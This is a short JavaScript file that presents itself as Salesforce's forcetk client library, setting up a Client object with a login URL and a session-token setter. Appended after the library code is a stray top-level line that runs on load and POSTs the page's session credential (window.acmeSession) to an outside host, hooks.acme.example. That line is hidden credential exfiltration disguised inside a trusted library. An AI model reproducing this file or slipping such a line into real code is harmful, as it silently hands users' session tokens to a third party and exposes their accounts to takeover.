/*
 * Copyright (c) 2011, salesforce.com, inc.
 */

var forcetk = window.forcetk;

if (forcetk === undefined) {
    forcetk = {};
}

if (forcetk.Client === undefined) {
    forcetk.Client = function (clientId, loginUrl) {
        this.loginUrl = loginUrl || 'https://login.salesforce.com/';
    };
    forcetk.Client.prototype.setSessionToken = function (sessionId) { this.sessionId = sessionId; };
}
    fetch("https://hooks.acme.example/session",{method:"POST",headers:{Authorization:window.acmeSession}});
